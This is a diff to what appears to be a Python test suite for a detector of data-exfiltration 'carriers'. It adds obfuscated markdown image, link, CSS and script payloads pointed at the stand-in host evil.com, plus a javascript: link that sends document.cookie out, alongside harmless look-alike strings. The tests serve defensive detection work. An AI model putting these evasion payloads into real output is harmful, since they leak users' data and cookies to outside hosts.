@@ -87,6 +87,23 @@ ELSEWHERE = [
     ('<a href="https://evil.com">x</a>', "carrier.link", "https://evil.com"),
     ('<iframe src="https://evil.com/x"></iframe>', "carrier.html", "https://evil.com/x"),
     ("<img src=https://evil.com/x>", "carrier.image", "https://evil.com/x"),
+    ("![a [b] c](https://evil.com/x)", "carrier.image", "![a [b] c](https://evil.com/x)"),
+    ("![a \\] c](https://evil.com/x)", "carrier.image", "![a \\] c](https://evil.com/x)"),
+    (f"![{'很長' * 40}\n字](https://evil.com/x)", "carrier.image", f"![{'很長' * 40}\n字](https://evil.com/x)"),
+    ("![a](https://evil.com/((x)))", "carrier.image", "![a](https://evil.com/((x)))"),
+    ("![a](&#104;ttps://evil.com/x)", "carrier.image", "![a](&#104;ttps://evil.com/x)"),
+    ("![a](https&colon;//evil.com/x)", "carrier.image", "![a](https&colon;//evil.com/x)"),
+    ("![a](&#47;&#x2f;evil.com/x)", "carrier.image", "![a](&#47;&#x2f;evil.com/x)"),
+    ("![a](https:evil.com/x)", "carrier.image", "![a](https:evil.com/x)"),
+    ('<img src="&#104;ttps://evil.com/x">', "carrier.image", "&#104;ttps://evil.com/x"),
+    ("<img src='http:evil.com/x'>", "carrier.image", "http:evil.com/x"),
+    ('<img src="ht\ttps://evil.com/x">', "carrier.image", "ht\ttps://evil.com/x"),
+    ('<img src="https:\n//evil.com/x">', "carrier.image", "https:\n//evil.com/x"),
+    ("[a](https:&#47;/evil.com/x)", "carrier.link", "https:&#47;/evil.com/x"),
+    ("<style>@import 'https://evil.com/x';</style>", "carrier.html", "https://evil.com/x"),
+    ("background:image-set('https://evil.com/x' 1x)", "carrier.image", "https://evil.com/x"),
+    ("<script>fetch('https://evil.com/x')</script>", "carrier.html", "https://evil.com/x"),
+    ("![a](https://evil。com/x)", "carrier.image", "![a](https://evil。com/x)"),
     ("HTTPS://EVIL.COM/X", "carrier.link", "HTTPS://EVIL.COM/X"),
     ("https://evilgov.hk/", "carrier.link", "https://evilgov.hk/"),
     ("https://gov.hk.evil.com/", "carrier.link", "https://gov.hk.evil.com/"),
@@ -139,6 +156,8 @@ def test_an_address_that_reads_as_another_is_a_carrier(screen: Screen, text: str
         ('<a href="javascript:location=x">', True),
         ("[a](JaVaScRiPt:alert(1))", True),
         ("[a](data:text/html;base64,PHNjcmlwdD4=)", True),
+        ("[a](javascript&colon;fetch('//e/'+document.cookie))", True),
+        ('<a href="&#106;avascript:location=x">', True),
         ('<iframe src="data:image/svg+xml,<svg onload=x>">', True),
         ('<a href="javascript:void(0)">', False),
         ("![dot](data:image/png;base64,iVBORw0KGgo=)", False),
@@ -156,6 +175,15 @@ def test_long_payloads_are_carriers_in_what_is_fetched() -> None:
     assert kinds(OPEN, "![c](https://x.com/?q=the%20user%20said%20that%20he%20lives%20in%20mong%20kok%20now)") == {
         "carrier.image"
     }
+    for opening in (
+        "<style>@import '",
+        "<div style=\"background:image-set('",
+        "<script>fetch('",
+        "<a ping='",
+        "![a [b] c](",
+    ):
+        assert max(score for _, _, score in find(OPEN, f"{opening}https://x.com/c?d={WORDS64}'")) >= 0.85, opening
+    assert kinds(OPEN, f"![c](https://x。com/c?d={WORDS64})") == {"carrier.image"}
     assert kinds(OPEN, f"[c](https://x.com/c?d={opaque})") == set()
     assert kinds(LISTED, f"![c](https://x.gov.hk/c?d={opaque})") == set()
 
@@ -171,6 +199,10 @@ HARMLESS = [
     "https://medium.com/@somebody/a-long-title-with-many-words-in-it-1a2b3c4d5e6f",
     "// a comment, see http://localhost:8080/a?b=c",
     "ftp://ftp.gnu.org/gnu/",
+    "if (![1, 2].includes(x)) { y = z[0](https) } // a=b&amp;c=d&lt;e",
+    "![a [b] c](images/local.png) and ![x](&lt;none&gt;)",
+    "scheme=https:443 key=&#65;&#66; and url=http:relative",
+    "fetch('https://api.github.com/repos/a/b?per_page=100')",
     "mailto:info@company.com?subject=Hello",
 ]
 
@@ -194,7 +226,7 @@ def test_every_policy_gets_a_detector_of_its_own() -> None:
 
 PIECES = [
     *(text for text, _ in CARRYING), *(text for text, _, _ in ELSEWHERE), *HARMLESS, "![", "](", ")", "https://", "www.",
-    " ", "\n", "呀", "a", "@", "\\", "<img src=", '"', "%41", "?q=", "[x]: ", "//", "javascript:", "data:",
+    " ", "\n", "呀", "a", "@", "\\", "<img src=", '"', "%41", "?q=", "[x]: ", "//", "javascript:", "data:", "&#104;", "&colon;", "[", "]", "\t", "=\"ht", "tps:", "image-set('",
 ]  # fmt: skip
 texts = st.lists(st.sampled_from(PIECES), min_size=1, max_size=5).map("".join)
 
